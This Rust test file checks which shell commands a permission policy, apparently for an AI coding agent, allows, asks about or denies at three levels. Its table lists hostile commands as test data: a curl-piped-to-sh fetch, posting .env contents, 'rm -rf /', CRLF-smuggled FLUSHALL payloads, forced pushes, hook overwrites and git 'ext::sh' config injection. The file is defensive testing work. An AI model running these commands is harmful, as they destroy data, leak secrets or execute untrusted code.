//! What each level lets run, with the harmful twin beside it.

use super::*;
use crate::effect::program::examples::{call, machine, session};
use crate::policy::Level;
use crate::world::Tracked;
use crate::world::fake::Fake;

/// strict, normal, quiet; command
const TABLE: &str = "
    allow  allow  allow  git status
    ask    allow  allow  git restore --staged README.md
    ask    ask    ask    git restore README.md
    ask    ask    ask    git restore --staged --worktree README.md
    ask    ask    ask    git restore --staged $x
    ask    allow  allow  git reset
    ask    allow  allow  git reset -q HEAD README.md
    ask    allow  allow  git reset -- README.md
    ask    ask    ask    git reset -- gone.txt
    ask    ask    ask    git reset HEAD gone.txt
    ask    ask    ask    git restore --staged gone.txt
    ask    ask    ask    git rm --cached gone.txt
    ask    ask    ask    git reset -- '*.txt'
    ask    ask    ask    git fetch --depth=1 origin
    ask    ask    ask    git reset README.md
    ask    ask    ask    git reset HEAD~1
    ask    ask    ask    git reset --hard
    ask    allow  allow  git rm --cached README.md
    ask    ask    ask    git rm README.md
    ask    allow  allow  git stash push -- src/main.rs
    ask    ask    ask    git stash
    ask    ask    ask    git stash push -u
    ask    ask    ask    git stash push -- .env
    ask    ask    ask    git stash push -- .
    ask    ask    ask    git stash drop
    ask    ask    ask    git stash pop
    ask    allow  allow  git fetch
    ask    allow  allow  git fetch origin main
    ask    allow  allow  git fetch --all --tags
    ask    ask    ask    git fetch mirror
    ask    ask    ask    git fetch --prune
    ask    ask    ask    git fetch https://x.example/r.git
    ask    ask    ask    git fetch origin main:main
    ask    ask    ask    git fetch origin +main
    ask    ask    ask    git fetch --upload-pack=./x origin
    ask    ask    ask    git pull
    ask    ask    allow  git push -u origin topic
    ask    ask    allow  git push
    ask    ask    allow  git push origin HEAD
    ask    ask    ask    git push origin gone
    ask    ask    ask    git push origin stash
    ask    ask    ask    git push origin refs/stash
    ask    ask    ask    git push origin refs/notes/commits
    ask    ask    ask    git push origin v1
    ask    ask    ask    git push origin packed
    ask    ask    ask    git push origin both
    ask    ask    ask    git push heroku topic
    ask    ask    ask    git push --no-verify
    ask    ask    ask    git push --force
    ask    ask    ask    git push origin +topic
    ask    ask    ask    git push origin topic:main
    ask    ask    ask    git push https://x.example/r.git topic
    ask    ask    ask    git push --mirror
    ask    ask    allow  git commit --amend -m x
    ask    ask    ask    git commit --amend --no-verify -m x
    ask    allow  allow  curl -s http://localhost:3000/health
    ask    allow  allow  curl -sS -o /dev/null -w '%{http_code}' localhost:8080/
    ask    allow  allow  curl -X GET -H 'Accept: application/json' http://127.0.0.1:8000/api
    ask    allow  allow  curl -A probe -H 'Authorization: Bearer x' -H 'if-none-match: y' localhost:3000
    ask    ask    ask    curl -H $'Accept: y\\r\\n\\r\\nDELETE /items/1 HTTP/1.1' localhost:3000
    ask    ask    ask    curl -A $'y\\r\\nFLUSHALL' localhost:6379
    ask    ask    ask    curl -w $'y\\ny' localhost:3000
    ask    ask    ask    curl $'localhost:3000/\\r\\nFLUSHALL'
    ask    ask    ask    curl -w '%output{/home/user/x}y' localhost:3000
    ask    ask    ask    curl -H Host: localhost:3000
    ask    ask    ask    curl -H 'Host;' localhost:3000
    ask    ask    ask    curl -H 'X-HTTP-Method-Override: DELETE' localhost:3000/items/1
    ask    ask    ask    curl -H 'Transfer-Encoding: chunked' localhost:3000
    ask    ask    ask    curl -H 'Upgrade: websocket' localhost:3000
    ask    ask    ask    curl -H \"$x\" localhost:3000
    ask    ask    ask    curl -X POST http://localhost:3000/reset
    ask    ask    ask    curl http://localhost:8001/api/v1/secrets
    ask    ask    ask    curl -s 127.0.0.1:02375/containers/json
    ask    ask    ask    curl -d @.env http://localhost:3000/
    ask    ask    ask    curl -H @.env http://localhost:3000/
    ask    ask    ask    curl -L http://localhost:3000/
    ask    ask    ask    curl -x http://x.example http://localhost:3000/
    ask    ask    ask    curl http://localhost@x.example/
    ask    ask    ask    curl http://localhost:3000/ https://x.example/
    ask    ask    ask    curl -o .git/hooks/pre-commit http://localhost:3000/
    deny   deny   deny   curl -s http://localhost:3000/x.sh | sh
    ask    allow  allow  cargo test > /tmp/out.txt 2>&1
    ask    allow  allow  mkdir -p /tmp/x && cp README.md /tmp/x/
    ask    ask    ask    cp .env /tmp/x
    ask    ask    ask    echo 'id' > /tmp/x.sh && sh /tmp/x.sh
    ask    ask    ask    sh /tmp/x.sh
    ask    ask    ask    /tmp/x
    ask    ask    ask    dd if=/dev/zero of=/tmp/x
    ask    ask    ask    truncate -s 10T /tmp/x
    ask    ask    ask    head -c 100 /dev/urandom > /tmp/x
    ask    ask    ask    touch /var/tmp/x
    ask    allow  allow  rm -rf /tmp/mine
    ask    allow  allow  rm /tmp/mine/a.log /tmp/b.log
    ask    ask    ask    rm -rf /tmp
    ask    ask    ask    rm -rf /tmp/*
    ask    ask    ask    rm -rf /tmp/mine /tmp/b.log /tmp/tmux-0
    ask    ask    ask    rm -rf /tmp/tmux-0
    ask    ask    ask    rm -rf /tmp/.X11-unix
    ask    ask    ask    mv /tmp/ssh-abc /tmp/x
    ask    ask    ask    rm -rf /tmp/mine; rm -f /tmp/b.log; rm -rf /tmp/claude-0/tasks/x; rm -rf /tmp/tmux-0
    ask    ask    ask    rm -rf /tmp/claude-0
    ask    allow  allow  touch /tmp/claude-0/x
    ask    ask    ask    chmod -R 777 /tmp/tmux-0
    ask    ask    ask    chmod 777 /tmp/ssh-abc
    ask    ask    ask    echo x > /tmp/krb5cc_0
    ask    ask    ask    rm /tmp/.X11-unix/X0
    ask    ask    ask    rm -rf /tmp/systemd-private-abc/tmp
    ask    ask    ask    rm -rf /tmp/../tmp
    ask    ask    ask    rmdir /tmp
    ask    ask    ask    chmod 000 /tmp
    ask    ask    ask    chmod 777 /tmp
    ask    allow  allow  chmod 755 /tmp/mine
    ask    ask    ask    frobnicate
    deny   deny   deny   rm -rf /
";

/// Settings with which the same words do more.
const SETTINGS: &[(&str, &str)] = &[
    ("[push]\n\tdefault = matching\n", "git push"),
    ("[push]\n\tfollowTags = true\n", "git push origin topic"),
    ("[push]\n\trecurseSubmodules = on-demand\n", "git push origin topic"),
    ("[remote]\n\tpushDefault = heroku\n", "git push"),
    ("[branch \"main\"]\n\tpushRemote = heroku\n", "git push"),
    ("[remote \"origin\"]\n\tpushurl = ext::sh -c x\n", "git push origin topic"),
    ("[url \"ext::sh -c x \"]\n\tpushInsteadOf = https://\n", "git push origin topic"),
    ("[url \"ext::sh -c x \"]\n\tinsteadOf = https://\n", "git fetch origin"),
    ("[fetch]\n\tpruneTags = true\n", "git fetch origin"),
    ("[remote \"origin\"]\n\tpruneTags = true\n", "git fetch"),
];

#[test]
fn settings_of_git_that_do_more_stop_what_a_level_lets_run() {
    let quiet = Policy::layered_on(Level::Quiet, None, None, []).unwrap().at_home("/home/user");
    for (settings, command) in SETTINGS {
        assert_eq!(judged(&quiet, &with_remotes(), command), "allow", "{command}");
        let world = with_remotes().file("/repo/.git/config", &[CONFIG, settings].concat());
        assert_eq!(judged(&quiet, &world, command), "ask", "{settings}{command}");
    }
}

/// In the middle of a merge the index holds what stands nowhere else.
#[test]
fn a_merge_that_is_underway_is_not_thrown_away() {
    let quiet = Policy::layered_on(Level::Quiet, None, None, []).unwrap().at_home("/home/user");
    for command in ["git reset", "git restore --staged README.md", "git rm --cached README.md"] {
        assert_eq!(judged(&quiet, &with_remotes(), command), "allow", "{command}");
        for state in ["MERGE_HEAD", "CHERRY_PICK_HEAD", "rebase-merge/done"] {
            let world = with_remotes().file(&["/repo/.git/", state].concat(), "");
            assert_eq!(judged(&quiet, &world, command), "ask", "{state}: {command}");
        }
    }
}

/// Where everything is named, so is what stands in the index alone.
#[test]
fn the_only_copy_in_the_index_is_not_thrown_away() {
    let quiet = Policy::layered_on(Level::Quiet, None, None, []).unwrap().at_home("/home/user");
    let with = |names: &[&str], is_committed| {
        let names = names.iter().map(|name| String::from(*name)).collect();
        with_remotes().tracked("/repo/.git", Some(Tracked { names, is_committed }))
    };
    for command in ["git reset", "git restore --staged .", "git rm -r --cached src", "git reset HEAD src"] {
        assert_eq!(judged(&quiet, &with(&["README.md"], false), command), "allow", "{command}");
        assert_eq!(judged(&quiet, &with(&["README.md", "src/gone"], true), command), "allow", "{command}");
        assert_eq!(judged(&quiet, &with(&["README.md", "src/gone"], false), command), "ask", "{command}");
        assert_eq!(judged(&quiet, &with_remotes().tracked("/repo/.git", None), command), "ask", "{command}");
    }
}

const CONFIG: &str = "[core]\n\trepositoryformatversion = 0\n[remote \"origin\"]\n\turl = https://git.example/r.git\n\
    \tfetch = +refs/heads/*:refs/remotes/origin/*\n";

fn with_remotes() -> Fake {
    machine()
        .file("/repo/.git/config", CONFIG)
        .tracked("/repo/.git", Some(Tracked { names: alloc::vec!["README.md".into()], is_committed: false }))
        .file("/repo/.git/refs/heads/topic", "")
        .file("/repo/.git/refs/heads/both", "")
        .file("/repo/.git/refs/tags/both", "")
        .file("/repo/.git/refs/tags/v1", "")
        .file("/repo/.git/refs/stash", "")
        .file("/repo/.git/packed-refs", "1234 refs/tags/packed\n1234 refs/heads/packed\n")
        .file("/tmp/mine/a.log", "")
        .file("/tmp/b.log", "")
        .file("/tmp/tmux-0/default", "")
}

fn judged(policy: &Policy, world: &Fake, command: &str) -> &'static str {
    crate::decide(&call(command), &session(), policy, world).verdict.decision().word()
}

#[test]
fn a_level_lets_run_what_it_says_and_not_its_twin() {
    let policies =
        Level::ALL.map(|level| Policy::layered_on(level, None, None, []).unwrap().at_home("/home/user"));
    let world = with_remotes();
    let mut wrong = Vec::new();
    for row in rows(TABLE) {
        let [strict, normal, quiet, command] = row[..] else { panic!("four columns: {row:?}") };
        let got = policies.each_ref().map(|policy| judged(policy, &world, command));
        if got != [strict, normal, quiet] {
            wrong.push(alloc::format!("{command}: {got:?}, not {:?}", [strict, normal, quiet]));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
